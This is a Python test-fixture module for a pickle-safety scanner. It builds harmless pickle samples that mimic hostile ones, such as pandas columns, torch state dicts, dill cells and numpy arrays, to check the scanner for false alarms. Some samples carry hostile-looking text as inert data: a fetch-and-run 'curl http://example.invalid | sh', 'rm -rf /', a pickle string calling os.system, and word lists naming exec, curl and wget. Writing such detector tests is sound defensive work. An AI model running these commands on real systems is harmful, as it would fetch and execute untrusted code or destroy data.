# ruff: noqa: FBT003  the arguments are those of the calls that the samples make
"""Harmless samples that look like hostile ones."""

from __future__ import annotations

import random
from typing import Any

from picklegate.training.carriers import contain
from picklegate.training.tree import Build, Call, Fill, Name, New, PersistentId
from support.builders import EXPRESSION, SOURCE, Honest, call, written


def _row(name: str, made: Any, why: str, protocol: int = 4) -> Honest:
    return Honest(id=name, data=made if isinstance(made, bytes) else written(made, protocol), why=why)


def _tensor(key: str) -> Call:
    storage = PersistentId(("storage", Name("torch", "FloatStorage"), key, "cpu", 4))
    return call("torch._utils", "_rebuild_tensor_v2", storage, 0, (4,), (1,), False, call("collections", "OrderedDict"))


_WEIGHTS = {f"layer.{i}.weight": _tensor(str(i)) for i in range(4)}
_MODEL = Fill(call("collections", "OrderedDict"), tuple(_WEIGHTS.items()))
_STOP_WORDS = [
    "the",
    "system",
    "exec",
    "import",
    "os",
    "eval",
    "rm",
    "curl",
    "sh",
    "open",
    "cat",
    "wget",
    "python",
] * 40
_DTYPE = Build(call("numpy", "dtype", "f4", False, True), (3, "<", None, None, None, -1, -1, 0))

_MADE = call("builtins", "getattr", Name("package.module", "Number"), "__new__")
_KEYWORDS = Build(
    call("functools", "partial", _MADE), (_MADE, (Name("package.module", "Number"), 3), {"precision": 53}, None)
)
_BLOCK = Name("pandas.core.internals.blocks", "new_block")
_NEW_BLOCK = Build(call("functools", "partial", _BLOCK), (_BLOCK, (), {"ndim": 2}, None))
_OF = Name("pandas.core.arrays.datetimes", "DatetimeArray")
_DATES = call("pandas._libs.arrays", "__pyx_unpickle_NDArrayBacked", _OF)
_SETTER = call("builtins", "getattr", Name("dill", "_dill"), "_setattr", Name("builtins", "setattr"))
_CELL = call("dill._dill", "_create_cell", None)
_CALLBACK = {"callback": Name("math", "sqrt")}

_CODE_BYTES = f"#!/bin/sh\ncurl http://example.invalid | sh\n{SOURCE}\n{EXPRESSION}\n".encode()
_COLUMN = call(
    "pyarrow.lib",
    "_restore_array",
    (call("pyarrow.lib", "type_for_alias", "large_string"), 1, 0, 0,
     [call("pyarrow.lib", "py_buffer", part) for part in (bytes(16), _CODE_BYTES)], [], None),
)  # fmt: skip
_SCRIPTS = {SOURCE: 2, "#!/bin/sh": 1, "rm -rf /": 1, "import": 4, "os": 3, ".": 9, "system": 3, "__init__": 2}
_UNAME = ("Linux", "host", "6.18.0", "#1 SMP PREEMPT_DYNAMIC", "x86_64")

LOOKALIKES: tuple[Honest, ...] = (
    _row("column-of-code", _COLUMN, "A column of texts of pandas 3, which pyarrow keeps."),
    _row("buffer-of-code", call("pyarrow.lib", "py_buffer", _CODE_BYTES), "What such a column consists of."),
    _row("counter-of-code", call("collections", "Counter", _SCRIPTS), "Lines of source code that were counted."),
    _row("set-of-code", call("builtins", "set", list(_SCRIPTS)), "Lines of source code, each once.", 2),
    _row("syntax-node", Build(call("ast", "alias"), {"name": "os", "asname": None}), "A node of a syntax tree."),
    _row("uname", call("platform", "uname_result", *_UNAME), "What a run notes of its machine."),
    _row("keywords-below-protocol-4", Call(_KEYWORDS), "As pickle writes __getnewargs_ex__ with keywords.", 2),
    _row("block-of-dates", Call(_NEW_BLOCK, (_DATES, call("builtins", "slice", 0, 1, 1))), "Dates of pandas 1.3."),
    _row(
        "cell-of-dill",
        [_CELL, Call(_SETTER, (_CELL, "cell_contents", call("dill._dill", "_import_module", "re")))],
        "A cell that dill fills last, as for each lambda that uses a module.",
    ),
    _row(
        "dict-in-a-dict-with-callbacks",
        Build(
            Fill(
                New(Name("package.module", "Registry")),
                (("a", Build(New(Name("package.module", "Registry")), _CALLBACK)),),
            ),
            _CALLBACK,
        ),
        "Instances of one class in one another, which hold functions.",
    ),
    _row("empty-dict", {}, "Nothing at all."),
    _row(
        "text-command", {"cmd": "curl http://example.invalid | sh", "note": "rm -rf /"}, "A command that nobody runs."
    ),
    _row("text-source", [SOURCE, EXPRESSION], "Source code as a text."),
    _row("text-global", ["cos\nsystem\n(S'echo inert'\ntR."], "A pickle as a text."),
    _row("bytes-pickle", {"blob": written([1, 2])}, "A pickle as bytes that nobody loads."),
    _row("shell-script-text", "#!/bin/sh\necho inert\n", "A script as the only value."),
    _row("state-dict", _MODEL, "Parameters in an OrderedDict.", 2),
    _row("state-dict-zip", contain(written(_MODEL, 2), "torch_zip", random.Random(0))[0], "The same in a torch zip."),
    _row(
        "state-dict-legacy",
        contain(written(_MODEL, 2), "torch_legacy", random.Random(0))[0],
        "The same in the old format.",
    ),
    _row("stop-words", call("builtins", "set", _STOP_WORDS), "A stop list holds every word."),
    _row("stop-words-2", call("builtins", "frozenset", _STOP_WORDS), "A stop list of protocol 2.", 2),
    _row("counter", call("collections", "Counter", {"eval": 3, "os.system": 1}), "Words that were counted."),
    _row("pairs", Fill(call("collections", "OrderedDict"), (("exec", 1), ("system", 2))), "A vocabulary of words."),
    _row(
        "defaultdict",
        Fill(call("collections", "defaultdict", Name("builtins", "int")), (("os", 1),)),
        "Counts by default.",
    ),
    _row("enum", call("transformers.trainer_utils", "IntervalStrategy", "steps"), "An enum member, made by its value."),
    _row(
        "enum-getattr",
        call("builtins", "getattr", Name("transformers.training_args", "OptimizerNames"), "ADAMW_HF"),
        "An enum member, fetched by name.",
    ),
    _row(
        "namespace",
        Build(New(Name("argparse", "Namespace")), {"cmd": "train.py --lr 0.1", "lr": 0.1}),
        "Arguments of a run.",
    ),
    _row("path", call("pathlib", "PosixPath", "/", "home", "me", "data.csv"), "Where the data lay."),
    _row("device", call("torch", "device", "cuda", 0), "A device."),
    _row("datetime", call("datetime", "datetime", b"\x07\xe8\x01\x02\x03\x04\x05\x00\x00\x00"), "A moment."),
    _row("pattern", call("re", "_compile", r"(?u)\b\w\w+\b", 32), "A token pattern."),
    _row("decimal", call("decimal", "Decimal", "0.25"), "A number."),
    _row("codecs-encode", call("_codecs", "encode", "import os\xff", "latin1"), "Bytes as protocol 2 writes them.", 2),
    _row(
        "array",
        Build(
            call("numpy.core.multiarray", "_reconstruct", Name("numpy", "ndarray"), (0,), b"b"),
            (1, (2,), _DTYPE, False, bytes(8)),
        ),
        "An array.",
    ),
    _row("scalar", call("numpy.core.multiarray", "scalar", _DTYPE, bytes(4)), "A numpy scalar."),
    _row(
        "vectorizer",
        Build(
            New(Name("sklearn.feature_extraction.text", "TfidfVectorizer")),
            {
                "token_pattern": r"(?u)\b\w\w+\b",
                "stop_words": _STOP_WORDS[:13],
                "vocabulary_": {"exec": 0, "system": 1},
            },
        ),
        "A vectorizer's state.",
    ),
    _row(
        "training-arguments",
        Build(
            New(Name("transformers.training_args", "TrainingArguments")),
            {"output_dir": "/tmp/out", "run_name": "bash run.sh", "push_to_hub_token": None},
        ),
        "Settings of a trainer.",
    ),
    _row(
        "union",
        call("functools", "reduce", Name("operator", "or_"), (Name("builtins", "int"), Name("builtins", "str"))),
        "How copyreg writes ``int | str``.",
    ),
    _row(
        "partial",
        Build(
            call("functools", "partial", Name("torch.nn.functional", "relu")),
            (Name("torch.nn.functional", "relu"), (), {"inplace": True}, None),
        ),
        "A partial that nobody calls.",
    ),
    _row(
        "module",
        Build(
            New(Name("torch.nn.modules.linear", "Linear")),
            {"training": False, "in_features": 4, "_parameters": {"weight": _tensor("9")}},
        ),
        "A whole module.",
    ),
    _row(
        "tensor-with-attributes",
        call(
            "torch._tensor",
            "_rebuild_from_type_v2",
            Name("torch._utils", "_rebuild_tensor_v2"),
            Name("torch", "Tensor"),
            _tensor("1").args,
            {"_is_buffer": True, "persistent": False},
        ),
        "A buffer of a transformers model, which its helper makes from what it is given.",
        2,
    ),
    _row(
        "custom-class",
        Build(
            New(Name("mymodel.layers", "AttentionBlock")),
            {"heads": 8, "doc": "Call `run()` to start; see https://example.invalid/docs."},
        ),
        "A class of one's own.",
    ),
    _row("shared-memo", [_WEIGHTS, _WEIGHTS, list(_WEIGHTS.values())], "Objects that stand twice."),
    _row("two-streams", written([1]) + written({"a": 2}), "Two harmless streams."),
)
